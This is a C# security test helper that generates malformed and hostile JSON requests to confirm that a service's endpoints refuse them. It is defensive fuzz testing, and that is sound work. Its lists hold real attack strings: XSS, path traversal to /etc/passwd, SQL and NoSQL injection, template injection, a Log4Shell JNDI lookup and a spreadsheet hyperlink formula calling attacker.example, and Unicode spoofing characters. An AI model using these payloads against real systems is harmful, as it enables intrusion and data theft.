using System.Collections;
using System.Reflection;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.Json.Serialization;

namespace Safeguarding.Workflows.Host.Tests.Security;

/// <summary>One hostile request: where it goes and what it carries.</summary>
public sealed record HostileRequest(string Description, string Method, string Url, string? ContentType, byte[] Body, bool Chunked = false);

/// <summary>
/// Malformed and hostile request bodies for a JSON endpoint, built from its request type so that every one of them
/// must be refused whatever the endpoint does: a field of the wrong type, a refused character, malformed JSON, a
/// body over the limit, or a media type that is not JSON. Hostile values (script, path traversal, huge strings,
/// Unicode tricks) ride along inside them. Seeded, so a failure can be replayed.
/// </summary>
public sealed class HostilePayloads(Random random)
{
    /// <summary>Values that are ordinary JSON strings but hostile to whoever renders, stores or logs them.</summary>
    private static readonly string[] HostileStrings =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "' OR 1=1 --",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "=HYPERLINK(\"http://attacker.example\")",
        "Z̴̡̛a̷̢l̶̨g̸̛o̵̧",
        "ѕtaffordshire",
        "👨‍👩‍👧‍👦",
        "\u200Djoiner",
        "𝕏𝕐",
        "CON",
        "",
        " ",
    ];

    /// <summary>JSON string literals (raw, as sent) that the service must refuse: hidden and broken characters.</summary>
    private static readonly string[] RefusedLiterals =
    [
        "\"invoice\\u202Etxt.exe\"",
        "\"Jay\\u200Bden\"",
        "\"a\\u2066b\\u2069\"",
        "\"nul\\u0000byte\"",
        "\"\\u001B[2J clear screen\"",
        "\"bell\\u0007\"",
        "\"next line\\u0085\"",
        "\"delete\\u007F\"",
        "\"bom\\uFEFF\"",
        "\"lone \\uD800 high\"",
        "\"lone \\uDC00 low\"",
        "\"reversed \\uDC00\\uD800\"",
        "\"\\uD800\"",
        "\"non-character \\uFFFF\"",
        "\"word\\u2060joiner\"",
    ];

    private static readonly string[] Malformed =
    [
        "{", "}", "[1,2", "{\"a\":}", "{\"a\" 1}", "{'a':1}", "{a:1}", "{\"a\":1,}", "[1,]", "nul", "tru", "{\"a\":\"unterminated}",
        "{\"a\":\"\\x41\"}", "{\"a\":01}", "{\"a\":.5}", "{\"a\":NaN}", "{\"a\":Infinity}", "{/*c*/\"a\":1}", "{\"a\":1}{\"b\":2}",
        "{\"a\":1}//", "<xml/>", "\u0000", "{\"a\":\"\\u12\"}", "[" + new string('[', 200) + new string(']', 201),
        new string('{', 1) + string.Concat(Enumerable.Repeat("\"a\":{", 100)) + "}",
    ];

    private static readonly string[] WrongTopLevel =
    [
        "\"<script>alert(1)</script>\"", "\"../../etc/passwd\"", "42", "-1", "true", "false", "[]", "[{}]", "[null]", "\"\"", "1e999", "null",
    ];

    private static readonly string[] HostileIds =
    [
        "../../etc/passwd", "..%2F..%2Fsecrets", "<script>alert(1)</script>", "a\u202Eb", "%00", "' OR 1=1 --", "CON", new string('x', 3000), "ｓｔａｆｆ", " ",
    ];

    public IEnumerable<HostileRequest> For(EndpointCase endpoint, IReadOnlyDictionary<string, string> routeValues, string partnership)
    {
        var method = endpoint.Method;
        HostileRequest Json(string description, string url, string json) => JsonRequest(description, method, url, json);
        var type = endpoint.Accepts?.RequestType;
        var free = type is null || IsFreeForm(type);
        var fields = free ? [] : FieldsOf(type!);
        string Url() => endpoint.Url(partnership, routeValues);
        string HostileUrl()
        {
            var values = routeValues.ToDictionary();
            foreach (var name in endpoint.Endpoint.RoutePattern.Parameters.Select(p => p.Name).Where(n => n is not ("partnershipId" or "p" or "kindPlural")))
            {
                values[name] = Pick(HostileIds);
            }

            return endpoint.Url(partnership, values);
        }

        // Malformed JSON, refused characters anywhere, and (for typed bodies) the wrong kind of document.
        foreach (var text in Malformed)
        {
            yield return Json($"malformed {Short(text)}", Url(), text);
        }

        foreach (var literal in RefusedLiterals)
        {
            var field = fields.Count > 0 ? Pick(fields).Name : "x";
            yield return Json($"refused character {literal} in '{field}'", Url(), $"{{\"{field}\":{literal}}}");
            yield return Json($"refused character {literal} in a name", Url(), $"{{{literal}:1}}");
            yield return Json($"refused character {literal} deep inside", HostileUrl(), $"{{\"{field}\":[{{\"x\":[1,{literal}]}}]}}");
            yield return Json($"refused character {literal} as the document", Url(), literal);
        }

        if (!free)
        {
            foreach (var text in WrongTopLevel)
            {
                yield return Json($"document {text}", Url(), text);
                yield return Json($"document {text}, hostile ids", HostileUrl(), text);
            }

            foreach (var field in fields)
            {
                foreach (var wrong in WrongValues(field.Kind))
                {
                    yield return Json($"'{field.Name}' = {Short(wrong)}", Url(), WithOthers(fields, field, wrong));
                }
            }
        }

        // Media types that are not (UTF-8) JSON.
        foreach (var (contentType, body) in new (string?, string)[]
        {
            ("text/plain", "{}"), ("application/xml", "<!DOCTYPE x [<!ENTITY a \"aaaa\">]><x>&a;&a;&a;</x>"), ("multipart/form-data; boundary=x", "--x\r\n\r\n--x--"),
            ("application/x-www-form-urlencoded", "reason=x&title=%3Cscript%3E"), (null, "{}"), ("text/json", "{}"), ("application/jsonx", "{}"),
            ("application/json; charset=latin1", "{}"), ("application/octet-stream", "\u0000\u0001"),
        })
        {
            yield return new HostileRequest($"content type {contentType ?? "none"}", method, Url(), contentType, Encoding.UTF8.GetBytes(body));
        }

        yield return new HostileRequest("UTF-16 JSON", method, Url(), "application/json; charset=utf-16", Encoding.Unicode.GetBytes("{}"));
        yield return new HostileRequest("bytes that are not UTF-8", method, Url(), "application/json", [(byte)'{', (byte)'"', 0xFF, 0xFE, (byte)'"', (byte)':', (byte)'1', (byte)'}']);

        // Over the 1 MiB limit, declared and streamed.
        var huge = "{\"x\":\"" + new string('a', 1024 * 1024) + "\"}";
        yield return Json("1 MiB string, declared length", Url(), huge);
        yield return new HostileRequest("1 MiB string, streamed", method, Url(), "application/json", Encoding.UTF8.GetBytes(huge), Chunked: true);
        yield return Json("2 MiB array", Url(), "[" + string.Join(',', Enumerable.Repeat("1", 1024 * 1024)) + "]");
    }

    /// <summary>Random hostile requests of the refused kinds, for volume.</summary>
    public HostileRequest Random(EndpointCase endpoint, IReadOnlyDictionary<string, string> routeValues, string partnership)
    {
        var type = endpoint.Accepts?.RequestType;
        var fields = type is null || IsFreeForm(type) ? [] : FieldsOf(type);
        var url = random.Next(3) == 0 ? HostileUrlFor(endpoint, routeValues, partnership) : endpoint.Url(partnership, routeValues);
        if (fields.Count > 0 && random.Next(2) == 0)
        {
            var field = Pick(fields);
            var wrong = Pick(WrongValues(field.Kind).ToList());
            return JsonRequest($"random: '{field.Name}' = {Short(wrong)}", endpoint.Method, url, WithOthers(fields, field, wrong));
        }

        var literal = Pick(RefusedLiterals);
        var name = fields.Count > 0 ? Pick(fields).Name : Pick(HostileStrings);
        var nested = random.Next(4) switch
        {
            0 => literal,
            1 => $"[{JsonString(Pick(HostileStrings))},{literal}]",
            2 => $"{{\"a\":{{\"b\":{literal}}}}}",
            _ => $"[[[{literal}]]]",
        };
        return JsonRequest($"random: refused character in '{Short(name)}'", endpoint.Method, url, $"{{{JsonString(name)}:{nested},\"other\":{JsonString(Pick(HostileStrings))}}}");
    }

    private string HostileUrlFor(EndpointCase endpoint, IReadOnlyDictionary<string, string> routeValues, string partnership)
    {
        var values = routeValues.ToDictionary();
        foreach (var name in endpoint.Endpoint.RoutePattern.Parameters.Select(p => p.Name).Where(n => n is not ("partnershipId" or "p" or "kindPlural")))
        {
            values[name] = Pick(HostileIds);
        }

        return endpoint.Url(partnership, values);
    }

    // The wrong-typed field plus every other field filled with a hostile (but well-typed-looking) string or a huge one.
    private string WithOthers(IReadOnlyList<Field> fields, Field wrongField, string wrong)
    {
        var json = new StringBuilder("{");
        foreach (var field in fields.OrderBy(_ => random.Next()))
        {
            if (json.Length > 1)
            {
                json.Append(',');
            }

            json.Append(JsonString(field.Name)).Append(':');
            json.Append(field == wrongField ? wrong
                : field.Kind == Kind.String ? JsonString(random.Next(10) == 0 ? new string('A', 200_000) : Pick(HostileStrings))
                : WrongValues(field.Kind).First());
        }

        return json.Append('}').ToString();
    }

    private static IEnumerable<string> WrongValues(Kind kind) => kind switch
    {
        Kind.String => ["42", "true", "[]", "{\"$ne\":null}", "[\"<script>alert(1)</script>\"]", "{\"name\":\"Kayden\"}", "-0.5e-7"],
        Kind.Bool => ["\"yes\"", "1", "\"<script>\"", "[]", "{}", "\"true\""],
        Kind.Integer => ["\"abc\"", "\"<script>alert(1)</script>\"", "\"../../etc/passwd\"", "true", "[]", "{}", "99999999999999999999999", "1.5"],
        Kind.Number => ["\"abc\"", "\"<script>alert(1)</script>\"", "true", "[]", "{}"],
        Kind.Temporal => ["\"2026-02-30\"", "\"31/12/2026\"", "\"<script>alert(1)</script>\"", "\"Kayden 2015-03-02\"", "20260101", "\"../../\"", "true", "[]", "\"\""],
        Kind.Enum => ["\"<script>alert(1)</script>\"", "\"no-such-value\"", "[]", "{}", "true", "\"\""],
        Kind.Guid => ["\"not-a-guid\"", "1", "[]"],
        Kind.Array => ["\"x\"", "1", "{}", "true", "\"<script>alert(1)</script>\""],
        Kind.Map => ["[]", "\"x\"", "1", "true"],
        _ => ["\"x\"", "1", "[]", "true", "\"<script>alert(1)</script>\""],
    };

    private enum Kind { String, Bool, Integer, Number, Temporal, Enum, Guid, Array, Map, Object }

    private sealed record Field(string Name, Kind Kind);

    private static List<Field> FieldsOf(Type type) =>
        type.GetProperties(BindingFlags.Public | BindingFlags.Instance)
            .Where(p => p.CanRead && p.GetIndexParameters().Length == 0 && p.GetCustomAttribute<JsonIgnoreAttribute>() is null)
            .Select(p => (p, Kind: KindOf(p.PropertyType)))
            .Where(x => x.Kind is not null)
            .Select(x => new Field(x.p.GetCustomAttribute<JsonPropertyNameAttribute>()?.Name ?? JsonNamingPolicy.CamelCase.ConvertName(x.p.Name), x.Kind!.Value))
            .ToList();

    private static Kind? KindOf(Type type)
    {
        type = Nullable.GetUnderlyingType(type) ?? type;
        if (IsFreeForm(type)) return null;
        if (type == typeof(string)) return Kind.String;
        if (type == typeof(bool)) return Kind.Bool;
        if (type == typeof(int) || type == typeof(long) || type == typeof(short) || type == typeof(byte) || type == typeof(uint) || type == typeof(ulong)) return Kind.Integer;
        if (type == typeof(double) || type == typeof(decimal) || type == typeof(float)) return Kind.Number;
        if (type == typeof(DateOnly) || type == typeof(DateTime) || type == typeof(DateTimeOffset) || type == typeof(TimeSpan) || type == typeof(TimeOnly)) return Kind.Temporal;
        if (type.IsEnum) return Kind.Enum;
        if (type == typeof(Guid)) return Kind.Guid;
        if (type.IsAssignableTo(typeof(IDictionary))
            || type.GetInterfaces().Append(type).Any(i => i.IsGenericType && (i.GetGenericTypeDefinition() == typeof(IDictionary<,>) || i.GetGenericTypeDefinition() == typeof(IReadOnlyDictionary<,>))))
        {
            return Kind.Map;
        }

        if (type.IsAssignableTo(typeof(IEnumerable))) return Kind.Array;
        return Kind.Object;
    }

    private static bool IsFreeForm(Type type) =>
        type == typeof(object) || type == typeof(JsonElement) || type == typeof(JsonElement?) || type.IsAssignableTo(typeof(JsonNode)) || type == typeof(JsonDocument);

    private T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];

    private static HostileRequest JsonRequest(string description, string method, string url, string json) => new(description, method, url, "application/json", Encoding.UTF8.GetBytes(json));

    private static string JsonString(string value) => JsonSerializer.Serialize(value);

    private static string Short(string text) => text.Length <= 40 ? text : text[..40] + "…";
}
